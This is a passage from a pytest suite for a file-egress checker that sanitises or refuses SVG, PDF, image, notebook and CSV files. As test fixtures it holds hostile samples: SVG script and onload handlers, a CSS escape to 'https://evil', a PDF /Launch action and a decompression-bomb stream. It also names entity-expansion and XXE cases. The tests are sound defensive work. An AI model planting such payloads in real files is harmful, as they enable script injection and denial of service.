        b'<rect style="fill:u\\72l(https://evil)"/>',
        attrs=b' onload="alert(1)"',
    )
    result = check_file("p.svg", hostile)
    assert result.outcome == "sanitised"
    root = ET.fromstring(result.release_bytes)
    assert root.tag == "{http://www.w3.org/2000/svg}svg"
    text = result.release_bytes.decode()
    for gone in ("script", "onload", "onclick", "javascript", "evil"):
        assert gone not in text
    for kept in ("url(#g)", "label", "tail", "data:image/png;base64", "xmlns:xlink="):
        assert kept in text
    assert len(result.changes) == 1 + 5
    assert "removed 5 items" in result.changes[0]


def test_svg_refuse_mode_lists_what_would_be_removed():
    result = check_file("p.svg", svg(b"<script/>", attrs=b' onload="x()"'), REFUSE)
    assert result.outcome == "refused"
    assert "<script> element" in result.problems[0] and "onload=" in result.problems[0]


def test_svg_with_nothing_to_remove_is_released_byte_for_byte_even_when_sanitising():
    result = check_file("plot.svg", MATPLOTLIB_SVG)
    assert result.release_bytes is MATPLOTLIB_SVG or result.release_bytes == MATPLOTLIB_SVG
    assert not result.changed


def test_entities_are_refused_before_any_parsing(monkeypatch):
    def boom(*args, **kwargs):
        raise AssertionError("parsed an SVG with entities")

    monkeypatch.setattr(ET, "fromstring", boom)
    assert check_file("p.svg", BILLION_LAUGHS).outcome == "refused"
    assert check_file("p.svg", XXE).outcome == "refused"


# --- PNG, JPEG, PDF ------------------------------------------------------------------------


def test_image_metadata_gives_warnings_not_refusals():
    tagged = png(png_chunk(b"tEXt", b"Comment\x00patient 123"))
    result = check_file("p.png", tagged)
    assert result.outcome == "accepted"
    assert result.warnings == ["PNG has metadata chunks (tEXt): check them for disclosive text"]
    result = check_file("p.jpg", jpeg(jpeg_segment(0xFE, b"made by alice")))
    assert result.outcome == "accepted"
    assert "comment" in result.warnings[0]


def test_pdf_links_and_forms_are_warnings():
    result = check_file("r.pdf", pdf(b" /OpenAction 3 0 R /AcroForm << >>", b"<< /URI (x) >>"))
    assert result.outcome == "accepted"
    assert any("/URI" in w for w in result.warnings)
    assert any("/AcroForm" in w for w in result.warnings)
    assert any("/OpenAction" in w for w in result.warnings)


def test_pdf_object_stream_bomb_is_refused(monkeypatch):
    monkeypatch.setattr(pdf_checks, "PDF_OBJECT_STREAM_BUDGET", MiB)
    bomb = pdf(b"", pdf_object_stream(b"<< /X (" + b"0" * (2 * MiB) + b") >>"))
    result = check_file("r.pdf", bomb)
    assert result.outcome == "refused"
    assert "decompression bomb" in result.problems[0]


def test_uncompressed_object_stream_is_also_searched():
    data = pdf(b"", pdf_object_stream(b"<< /S /Launch /F (x) >>", filters=b""))
    assert "/Launch" in check_file("r.pdf", data).problems[0]


# --- notebooks -----------------------------------------------------------------------------


def test_notebook_outputs_are_counted_in_a_warning():
    data = notebook(
        code_cell("a", display({"text/plain": "1"}), display({"image/png": "iVBORw0KGgo="})),
        code_cell("b", {"output_type": "stream", "name": "stdout", "text": "x"}),
    )
    result = check_file("nb.ipynb", data)
    assert result.outcome == "accepted"
    # what the warning says is what exists: no action strips outputs at release (issue #20)
    assert result.warnings[0] == (
        "notebook has 3 outputs; they are released with the code, so a checker must approve "
        "every output (to release the code only, clear the outputs in JupyterLab, save the "
        "notebook and add it again)"
    )
    assert "stripped" not in result.warnings[0]


def test_notebook_without_outputs_has_no_warning():
    assert check_file("nb.ipynb", notebook(code_cell("x"))).warnings == []


def test_pandas_html_output_is_fine():
    table = '<table border="1" class="dataframe"><tr><td>one = 1</td></tr></table>'
    result = check_file("nb.ipynb", notebook(code_cell("df", display({"text/html": table}))))
    assert result.outcome == "accepted"


# --- API -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "changes",
    [
        {"max_file_bytes": 0},
        {"max_csv_cells": -1},
        {"max_line_bytes": True},
        {"csv_injection": "neutralize"},
        {"svg": "strip"},
    ],
)
def test_policy_is_validated(changes):
    with pytest.raises(ValueError):
        CheckPolicy(**changes)


def test_a_refused_file_still_says_what_its_content_is_when_known():
    assert check_file("p.png", png() + b"x").kind is FileKind.PNG
    assert check_file("t.csv", png()).kind is FileKind.PNG  # the content, not the name
    assert check_file("t.csv", b"a,b\n1\n").kind is FileKind.CSV
    assert check_file("t.csv", gzip.compress(CSV)).kind is None
    assert check_file("t.txt", b"<html><script>x</script>").kind is None


def test_result_fields():
    result = check_file("t.csv", CSV)
    assert isinstance(result, FileCheckResult)
    assert result.kind is FileKind.CSV and result.ok and not result.changed
    assert result.release_bytes == CSV
    assert dataclasses.is_dataclass(result)


def test_the_checks_parse_with_the_standard_library_only():
    """No third-party parser reads a file's bytes to decide whether it is released: the
    dispatcher and these kinds' modules import the standard library only (the text and
    notebook modules also render, with markdown-it, nh3 and nbconvert; their checks use
    the standard library's parsers)."""
    import sys

    from egress.files import checks, common, images, pdf, svg, tables

    for module in (checks, common, images, pdf, svg, tables):
        imported = imported_packages(module)
        allowed = set(sys.stdlib_module_names) | {"__future__"}
        assert imported - {"egress", "havre"} <= allowed, module.__name__


@settings(max_examples=examples(400), deadline=None)
@given(
    name=st.one_of(st.sampled_from(list(EXTENSIONS)).map(lambda e: "f" + e), st.text(max_size=20)),
    data=st.one_of(
        st.binary(max_size=300),
        st.sampled_from([png(), jpeg(), pdf(), svg(), CSV, notebook(code_cell())]).flatmap(
            lambda good: st.tuples(st.integers(0, len(good)), st.binary(max_size=20)).map(
                lambda cut: good[: cut[0]] + cut[1] + good[cut[0] :]
            )
        ),
    ),
)
def test_check_file_never_raises_and_never_releases_what_it_refuses(name, data):
    result = check_file(name, data)
    assert result.ok == (result.release_bytes is not None)
    assert result.ok == (not result.problems)
    if result.ok:
        assert result.kind is not None
        if result.outcome == "accepted":
            assert result.release_bytes == data


def test_every_hostile_row_is_documented():
    doc = Path(__file__).parents[3] / "docs" / "checker-file-checks.md"
    text = doc.read_text(encoding="utf-8")
    missing = [row.id for row in HOSTILE if f"| `{row.id}` |" not in text]
    assert not missing, f"add these rows to docs/checker-file-checks.md: {missing}"
